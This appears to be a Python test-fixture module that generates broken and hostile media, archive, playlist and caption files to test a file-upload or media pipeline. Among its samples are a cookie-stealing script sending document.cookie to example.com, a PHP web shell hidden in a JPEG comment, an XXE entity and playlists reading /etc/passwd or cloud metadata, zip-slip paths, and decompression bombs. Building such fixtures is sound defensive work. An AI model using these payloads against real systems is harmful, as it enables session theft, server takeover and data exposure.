"""Broken and hostile files: each is made here, from a good one or from nothing."""

import gzip
import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Final

from PIL import Image

Make = Callable[[Mapping[str, bytes]], bytes]
"""From the good files by their names to the bytes of a bad one."""

SCRIPT: Final = b"<script>fetch('https://example.com/'+document.cookie)</script>"
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"


def files(good: Mapping[str, bytes]) -> dict[str, bytes]:
    """Every bad file by its name."""
    return {name: make(good) for name, make in _all()}


def _all() -> Iterator[tuple[str, Make]]:
    yield from _cut()
    yield from _PICTURES.items()
    yield from _TWO_AT_ONCE.items()
    yield from _MARKUP.items()
    yield from _ARCHIVES.items()
    yield from _PLAYLISTS.items()
    yield from _CONTAINERS.items()
    yield from _SOUNDS.items()
    yield from _CAPTIONS.items()
    yield from _OTHERS.items()


def _cut() -> Iterator[tuple[str, Make]]:
    """Good files of which only a part arrived."""
    pictures = ("fox.png", "fox.jpg", "fox.webp", "fox.avif", "fox.gif")
    lasting = ("film.mp4", "film.mov", "front.mp4", "song.wav", "song.flac", "song.m4a")
    halves = (*pictures, *lasting, "film.webm", "song.mp3")
    for name in halves:
        yield f"half-{name}", lambda good, name=name: good[name][: len(good[name]) // 2]  # type: ignore[misc]
    heads = (*halves, "song.ogg")
    for name in heads:
        yield f"head-{name}", lambda good, name=name: good[name][:40]  # type: ignore[misc]


def chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG, with the right length and sum."""
    body = kind + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))


def png(width: int, height: int, *between: bytes, packed: bytes = b"") -> bytes:
    """A PNG of one bit a pixel with this header, whatever it holds."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    ends = chunk(b"IDAT", packed or zlib.compress(bytes(64))), chunk(b"IEND", b"")
    return b"".join((b"\x89PNG\r\n\x1a\n", header, *between, *ends))


def png_bomb(good: Mapping[str, bytes]) -> bytes:
    """50,000 by 50,000 pixels that are really there: 300 MB of zeros in 1.4 MB."""
    packing = zlib.compressobj(1)
    row = bytes(1 + 50_000 // 8)
    packed = b"".join(packing.compress(row * 100) for _ in range(500))
    return png(50_000, 50_000, packed=packed + packing.flush())


def patched(name: str, at: int, value: bytes) -> Make:
    """A good file with other bytes at a place."""
    return lambda good: good[name][:at] + value + good[name][at + len(value) :]


def after(name: str, mark: bytes, skip: int, value: bytes) -> Make:
    """A good file with other bytes behind every one of these marks."""

    def make(good: Mapping[str, bytes]) -> bytes:
        content, position = bytearray(good[name]), -1
        while (position := content.find(mark, position + 1)) >= 0:
            start = position + len(mark) + skip
            content[start : start + len(value)] = value
        return bytes(content)

    return make


def appended(name: str, tail: bytes) -> Make:
    """A good file with something behind its end."""
    return lambda good: good[name] + tail


def inserted(name: str, at: int, value: bytes) -> Make:
    """A good file with something in it."""
    return lambda good: good[name][:at] + value + good[name][at:]


def given(content: bytes) -> Make:
    """These bytes."""
    return lambda _: content


def archive(*entries: tuple[str, bytes], link: str | None = None) -> bytes:
    """A ZIP of these entries, and of a symbolic link."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zipped:
        for name, content in entries:
            zipped.writestr(name, content)
        if link is not None:
            entry = zipfile.ZipInfo("word/link")
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            zipped.writestr(entry, link)
    return into.getvalue()


def comment(text: bytes) -> bytes:
    """A comment of a JPEG."""
    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that says it is so large."""
    into = io.BytesIO()
    Image.new("L", (8, 8)).save(into, "JPEG")
    content = bytearray(into.getvalue())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def bmp(width: int, height: int) -> bytes:
    """A BMP that says it is so large."""
    header = struct.pack("<IHHIIiiHH", 200, 0, 0, 54, 40, width, height, 1, 24)
    return b"BM" + header + bytes(24)


def tiff(width: int, height: int, following: int = 0) -> bytes:
    """A TIFF of one strip; `following` is where the next directory lies."""
    tags = [(256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (278, height)]
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\x00" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", following)


def wav(channels: int, rate: int, bits: int, data: bytes, length: int | None = None) -> bytes:
    """A WAV with this header, whatever it holds."""
    block = channels * bits // 8 % 65_536
    form = struct.pack("<HHIIHH", 1, channels, rate, rate * block % 2**32, block, bits)
    size = len(data) if length is None else length
    body = b"WAVEfmt " + struct.pack("<I", 16) + form + b"data" + struct.pack("<I", size) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def noise(count: int, seed: int = 5) -> bytes:
    return random.Random(seed).randbytes(count)


def overlapping() -> bytes:
    """A Word document whose entries all are the same packed bytes."""
    content = bytearray(archive(("word/document.xml", noise(50_000)), ("word/a.xml", b"a")))
    end = content.rindex(b"PK\x05\x06")
    first = content.index(b"PK\x01\x02")
    entry = bytes(content[first : content.index(b"PK\x01\x02", first + 4)])
    directory = entry * 200
    tail = bytearray(content[end:])
    tail[8:12] = struct.pack("<HH", 200, 200)
    tail[12:20] = struct.pack("<II", len(directory), first)
    return bytes(content[:first]) + directory + bytes(tail)


LARGE: Final = struct.pack("<ii", 60_000, 60_000)
WORDS: Final = ("word/document.xml", b"<w:document/>")
_PICTURES: Final[Mapping[str, Make]] = {
    "bomb.png": png_bomb,
    "claims-much.png": given(png(50_000, 50_000)),
    "no-width.png": given(png(0, 10)),
    "wrong-sum.png": patched("fox.png", 16, b"\x00\x00\x7f\xff"),
    "wrong-length.png": patched("fox.png", 33, b"\x7f\xff\xff\xff"),
    "text-bomb.png": given(
        png(8, 8, chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(2_000_000))))
    ),
    "zeroed.png": lambda good: good["fox.png"][:200] + bytes(len(good["fox.png"]) - 200),
    "claims-much.jpg": given(jpeg_of(65_500, 65_500)),
    "no-height.jpg": given(jpeg_of(0, 0)),
    "claims-much.gif": patched("fox.gif", 6, b"\xff\xff\xff\xff"),
    "claims-much.bmp": given(bmp(100_000, 100_000)),
    "negative.bmp": given(bmp(-5, 2**31 - 1)),
    "claims-much.tif": given(tiff(60_000, 60_000)),
    "circle.tif": given(tiff(20_000, 20_000, following=8)),
    "short.webp": patched("fox.webp", 4, b"\x10\x00\x00\x00"),
    "claims-much.avif": after("fox.avif", b"ispe", 4, struct.pack(">II", 60_000, 60_000)),
    "wrong-box.avif": patched("fox.avif", 0, b"\xff\xff\xff\xff"),
}
_TWO_AT_ONCE: Final[Mapping[str, Make]] = {
    "script.gif": lambda good: b"GIF89a/*" + good["fox.gif"][8:] + b"*/=1;alert(1)",
    "assignment.gif": lambda good: b"GIF89a= " + good["fox.gif"][8:] + b";alert(1)",
    "archive.gif": lambda good: good["fox.gif"] + archive(("Evil.class", b"\xca\xfe\xba\xbe")),
    "archive.jpg": lambda good: good["fox.jpg"] + archive(("a.txt", b"a")),
    "archive.mp4": lambda good: good["film.mp4"] + archive(("a.txt", b"a")),
    "page.png": appended("fox.png", b"<!DOCTYPE html><html>" + SCRIPT + b"</html>"),
    "page.gif": appended("fox.gif", SCRIPT),
    "page.webp": appended("fox.webp", b"<HTML >"),
    "program.jpg": inserted("fox.jpg", 2, comment(b"<?php system($_GET['c']); ?>")),
    "script.jpg": inserted("fox.jpg", 2, comment(SCRIPT)),
    "paper.png": inserted("fox.png", 33, chunk(b"tEXt", b"a\x00%PDF-1.7 1 0 obj")),
    "page.mp3": appended("song.mp3", b"<iframe src=//example.com></iframe>"),
    "drawing.jpg": inserted("fox.jpg", 2, comment(SVG)),
}
_MARKUP: Final[Mapping[str, Make]] = {
    "script.svg": given(SVG),
    "plain.svg": given(b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "prolog.svg": given(b'<?xml version="1.0"?>\n<!-- a -->\n' + SVG),
    "spaced.svg": given(b"\xef\xbb\xbf \r\n\t" + SVG),
    "wide.svg": given(SVG.decode().encode("utf-16")),
    "entities.svg": given(
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'
    ),
    "page.html": given(b"<!doctype html><title>a</title>"),
    "page-called.png": given(b"<html><body onload=alert(1)>"),
}
_ARCHIVES: Final[Mapping[str, Make]] = {
    "plain.zip": given(archive(("a.txt", b"a"))),
    "bomb.docx": given(archive(WORDS, *((f"{n}.bin", bytes(60_000_000)) for n in range(10)))),
    "nested.zip": given(archive(("a.zip", archive(("b.zip", archive(("c", bytes(999_999)))))))),
    "climbs.docx": given(archive(WORDS, ("../../../../tmp/evil", b"a"))),
    "climbs-too.docx": given(archive(WORDS, ("..\\..\\evil", b"a"))),
    "absolute.docx": given(archive(WORDS, ("/etc/cron.d/evil", b"a"))),
    "link.docx": given(archive(WORDS, link="/etc/passwd")),
    "many.docx": given(archive(WORDS, *((f"{n}", b"") for n in range(10_001)))),
    "overlaps.docx": given(overlapping()),
    "half.docx": given(archive(WORDS)[:-30]),
    "bomb.gz": given(gzip.compress(bytes(10_000_000))),
}
_PLAYLISTS: Final[Mapping[str, Make]] = {
    "list.m3u8": given(b"#EXTM3U\n#EXTINF:9,\nhttp://169.254.169.254/latest/meta-data\n"),
    "list-called.mp4": given(b"#EXTM3U\n#EXTINF:9,\nfile:///etc/passwd\n"),
    "spaced.m3u": given(b"\xef\xbb\xbf\r\n#EXTM3U\nconcat:file:///etc/passwd|a\n"),
    "list.ffconcat": given(b"ffconcat version 1.0\nfile /etc/passwd\n"),
    "list.pls": given(b"[playlist]\nFile1=/etc/passwd\n"),
    "list.asx": given(b"<asx version='3.0'><entry><ref href='file:///etc/passwd'/></entry></asx>"),
    "list.mpd": given(b"<MPD><BaseURL>file:///etc/</BaseURL></MPD>"),
    "list.wpl": given(b"<?wpl version='1.0'?><smil/>"),
}
_CONTAINERS: Final[Mapping[str, Make]] = {
    "absurd.mov": after("pictures.mov", b"\xff\xc0\x00\x11\x08", 0, b"\xff\xdc\xff\xdc"),
    "absurd.avi": after("raw.avi", b"strf" + struct.pack("<II", 40, 40), 0, LARGE),
    "for-ever.webm": after("film.webm", b"\x44\x89\x88", 0, struct.pack(">d", 1e9)),
    "no-clock.mp4": after("film.mp4", b"mdhd", 12, bytes(4)),
    "wrong-box.mp4": patched("film.mp4", 0, b"\x7f\xff\xff\xff"),
    "no-index.mp4": lambda good: good["film.mp4"].replace(b"moov", b"lost"),
    "no-tables.mp4": lambda good: good["film.mp4"].replace(b"stbl", b"free"),
    "boxes-only.mp4": given(b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(4_000)),
    "wrong-length.webm": patched("film.webm", 4, b"\x01\xff\xff\xff\xff\xff\xff\xfe"),
    "noise-behind.webm": lambda good: good["film.webm"][:60] + noise(20_000),
    "noise-behind.mov": lambda good: good["film.mov"][:32] + noise(20_000),
}
_SOUNDS: Final[Mapping[str, Make]] = {
    "no-data.wav": given(wav(1, 48_000, 16, b"")),
    "no-channels.wav": given(wav(0, 48_000, 16, bytes(900))),
    "no-rate.wav": given(wav(1, 0, 16, bytes(900))),
    "tag-only.mp3": given(b"ID3\x04\x00\x00\x00\x00\x00\x10" + bytes(16)),
    "endless-tag.mp3": given(b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + noise(500)),
    "noise.mp3": given(b"\xff\xfb\x90\x00" + noise(2_000)),
    "noise-behind.ogg": lambda good: good["song.ogg"][:30] + noise(5_000),
}
_CAPTIONS: Final[Mapping[str, Make]] = {
    "backwards.srt": given(b"1\n00:00:05,000 --> 00:00:01,000\nNo.\n"),
    "later-broken.srt": given(b"1\n00:00:01,000 --> 00:00:02,000\nA\n\n2\nnonsense\nB\n"),
    "no-times.vtt": given(b"WEBVTT\n\nno times at all\n"),
    "for-ever.vtt": given(b"WEBVTT\n\n00:00.000 --> 9999:00:00.000\nA\n"),
    "not-text.srt": given(b"1\n00:00:01,000 --> 00:00:02,000\n" + b"a" * 5_000 + b"\xff\xfe\xfd"),
    "much.srt": given(b"1\n00:00:01,000 --> 00:00:02,000\n" + b"a\n" * 6_000_000),
}
_OTHERS: Final[Mapping[str, Make]] = {
    "nothing": given(b""),
    "zeros.png": given(bytes(1_000_000)),
    "noise.mp4": given(noise(65_536)),
    "program": given(b"\x7fELF\x02\x01\x01" + bytes(9) + noise(500)),
    "program.exe": given(b"MZ\x90\x00" + noise(500)),
    "store.sqlite": given(b"SQLite format 3\x00" + noise(500)),
    "pickled.jpg": given(b"\x80\x04\x95" + noise(100)),
    "packed.7z": given(b"7z\xbc\xaf\x27\x1c" + noise(300)),
}


def good_files(folder: Path) -> dict[str, bytes]:
    """The good files of a folder by their names."""
    return {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
